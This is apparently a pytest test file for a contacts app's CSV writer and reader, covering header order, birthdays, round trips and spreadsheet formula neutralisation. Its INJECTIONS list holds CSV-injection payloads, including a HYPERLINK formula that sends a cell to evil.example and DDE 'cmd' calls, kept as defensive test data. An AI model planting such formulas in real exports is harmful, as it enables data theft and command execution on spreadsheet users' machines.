"""Contacts written as CSV in our own layout: formulas neutralised for spreadsheets
(CSV injection), written verbatim in raw mode, and read back into equal drafts."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from relationsapp.core.choices import EmailKind, PhoneKind
from relationsapp.core.records import (
    NO_YEAR,
    ContactDetails,
    ContactDraft,
    EmailEntry,
    PhoneEntry,
    PostalAddress,
)
from relationsapp.interop.contact_csv import detect_contact_layout, read_contact_csv
from relationsapp.interop.contact_csv_layouts import OWN_HEADER
from relationsapp.interop.contact_csv_writer import write_contacts_csv

CREATED = dt.datetime(2026, 1, 5, 9, 0, tzinfo=dt.UTC)


def details(draft: ContactDraft, account: str = "", number: int = 1) -> ContactDetails:
    return ContactDetails(
        id=number,
        uid=f"uid-{number}",
        draft=draft,
        display_name=f"{draft.given_name} {draft.family_name}",
        latin_name="",
        account_name=account,
        created_at=CREATED,
        updated_at=CREATED,
    )


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def save(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8-sig", newline="")
    return path


SOREN = ContactDraft(
    given_name="Søren",
    family_name="Ærø",
    job_title="Indkøbschef",
    emails=[EmailEntry("soren@aero.dk"), EmailEntry("soren@hjemme.dk", EmailKind.HOME)],
    phones=[
        PhoneEntry("+4520123456", PhoneKind.MOBILE),
        PhoneEntry("+4533123456"),
        PhoneEntry("+4533123499", PhoneKind.FAX),
    ],
    address=PostalAddress("Strandvejen 1\n3. sal", "2900", "Hellerup", "Region Hovedstaden"),
    country="DK",
    time_zone="Europe/Copenhagen",
    preferred_language="da",
    birthday=dt.date(1975, 3, 14),
    tags=["Kunder", "Sejlads, sommer"],
    notes='Ringer helst om formiddagen.\r\n"Citat", semikolon; komma,',
)
YAMADA = ContactDraft(
    given_name="太郎",
    family_name="山田",
    given_name_latin="Taro",
    family_name_latin="Yamada",
    emails=[EmailEntry("taro@yamada.co.jp", EmailKind.OTHER)],
    country="JP",
    birthday=dt.date(NO_YEAR, 4, 12),
)
MUELLER = ContactDraft(given_name="Hans", family_name="Müller", country="DE")


def test_the_header_is_stable_and_the_cells_are_in_its_order() -> None:
    text = write_contacts_csv([details(SOREN, "Ærø Shipping ApS")], excel_safe=False)
    header, row = cells(text)
    assert tuple(header) == OWN_HEADER
    values = dict(zip(header, row, strict=True))
    assert values["Given name"] == "Søren"
    assert values["Account"] == "Ærø Shipping ApS"
    assert values["E-mail addresses"] == "soren@aero.dk ::: soren@hjemme.dk"
    assert values["E-mail kinds"] == "work ::: home"
    assert values["Phone numbers"] == "+4520123456 ::: +4533123456 ::: +4533123499"
    assert values["Phone kinds"] == "mobile ::: work ::: fax"
    assert values["Birthday"] == "1975-03-14"
    assert values["Tags"] == "Kunder ::: Sejlads, sommer"
    assert text.endswith("\r\n")


def test_a_birthday_without_a_year_is_written_as_month_and_day() -> None:
    _header, row = cells(write_contacts_csv([details(YAMADA)], excel_safe=False))
    assert row[OWN_HEADER.index("Birthday")] == "--04-12"


def test_our_own_export_is_recognised_and_reads_back_into_equal_drafts(tmp_path: Path) -> None:
    contacts = [
        details(SOREN, "Ærø Shipping ApS", 1),
        details(YAMADA, "株式会社山田製作所", 2),
        details(MUELLER, "Müller Präzision GmbH", 3),
    ]
    for excel_safe in (True, False):
        path = save(
            tmp_path / f"export-{excel_safe}.csv",
            write_contacts_csv(contacts, excel_safe=excel_safe),
        )
        layout = detect_contact_layout(path)
        assert layout.kind == "relationsapp"
        parsed = read_contact_csv(path, layout)
        assert parsed.skipped == []
        assert [c.draft for c in parsed.contacts] == [SOREN, YAMADA, MUELLER]
        assert [c.account_name for c in parsed.contacts] == [
            "Ærø Shipping ApS",
            "株式会社山田製作所",
            "Müller Präzision GmbH",
        ]
        assert [c.line for c in parsed.contacts] == [2, 5, 6]  # Søren's cells span 3 lines
        assert all(c.warnings == [] for c in parsed.contacts)


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formulas_are_neutralised_in_excel_safe_mode_and_verbatim_in_raw_mode(
    tmp_path: Path, payload: str
) -> None:
    draft = ContactDraft(
        given_name=payload, family_name="Ærø", notes=payload, phones=[PhoneEntry(payload)]
    )
    columns = [OWN_HEADER.index(name) for name in ("Given name", "Notes", "Phone numbers")]

    _header, safe_row = cells(write_contacts_csv([details(draft)]))
    assert [safe_row[i] for i in columns] == ["'" + payload] * 3
    _header, raw_row = cells(write_contacts_csv([details(draft)], excel_safe=False))
    assert [raw_row[i] for i in columns] == [payload] * 3

    for excel_safe in (True, False):
        path = save(tmp_path / "c.csv", write_contacts_csv([details(draft)], excel_safe=excel_safe))
        (contact,) = read_contact_csv(path).contacts
        assert contact.draft == draft


def test_a_phone_number_reads_back_without_the_quote(tmp_path: Path) -> None:
    draft = ContactDraft(given_name="Søren", phones=[PhoneEntry("+45 33 12 34 56")])
    text = write_contacts_csv([details(draft)])
    assert "'+45 33 12 34 56" in text
    (contact,) = read_contact_csv(save(tmp_path / "c.csv", text)).contacts
    assert contact.draft.phones == [PhoneEntry("+45 33 12 34 56")]


def test_a_value_that_starts_with_a_quote_survives_both_modes(tmp_path: Path) -> None:
    draft = ContactDraft(given_name="'=not a formula", family_name="'quoted", notes="''+45")
    for excel_safe in (True, False):
        text = write_contacts_csv([details(draft)], excel_safe=excel_safe)
        (contact,) = read_contact_csv(save(tmp_path / "c.csv", text)).contacts
        assert contact.draft == draft


def test_other_programs_cells_keep_a_leading_quote(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("Name,Phone\nAnne,'+45 1\n", encoding="utf-8")
    (contact,) = read_contact_csv(path).contacts
    assert contact.draft.phones == [PhoneEntry("'+45 1")]


# --- round trip of anything a person can type ------------------------------------------------

# Text without the characters no text file holds (NUL, lone surrogates), without our own
# separator " ::: " inside a list value, and not blank (blank list values are dropped).
_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=20,
)
_word = _text.filter(lambda value: value.strip() != "" and ":::" not in value)
_emails = st.lists(st.builds(EmailEntry, _word, st.sampled_from(list(EmailKind))), max_size=3)
_phones = st.lists(st.builds(PhoneEntry, _word, st.sampled_from(list(PhoneKind))), max_size=3)
_birthdays = st.one_of(
    st.none(),
    st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2030, 12, 31)),
    st.dates(min_value=dt.date(NO_YEAR, 1, 1), max_value=dt.date(NO_YEAR, 12, 31)),
)
_drafts = st.builds(
    ContactDraft,
    given_name=_word,
    family_name=_text,
    given_name_latin=_text,
    family_name_latin=_text,
    job_title=_text,
    emails=_emails,
    phones=_phones,
    address=st.builds(PostalAddress, _text, _text, _text, _text),
    country=st.sampled_from(["", "DK", "DE", "FI", "JP", "US", "BR"]),
    time_zone=st.sampled_from(["", "Europe/Copenhagen", "Asia/Tokyo"]),
    preferred_language=st.sampled_from(["", "da", "ja", "pt_BR"]),
    birthday=_birthdays,
    tags=st.lists(_word, max_size=3, unique=True),
    notes=_text,
)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(drafts=st.lists(_drafts, min_size=1, max_size=4), account=_text, excel_safe=st.booleans())
def test_any_contacts_round_trip_through_our_csv(
    tmp_path_factory: pytest.TempPathFactory,
    drafts: list[ContactDraft],
    account: str,
    excel_safe: bool,
) -> None:
    path = tmp_path_factory.mktemp("round") / "contacts.csv"
    contacts = [details(draft, account, number) for number, draft in enumerate(drafts, 1)]
    save(path, write_contacts_csv(contacts, excel_safe=excel_safe))
    parsed = read_contact_csv(path)
    assert parsed.skipped == []
    assert [c.draft for c in parsed.contacts] == [replace(d, account_id=None) for d in drafts]
    assert {c.account_name for c in parsed.contacts} <= {account}
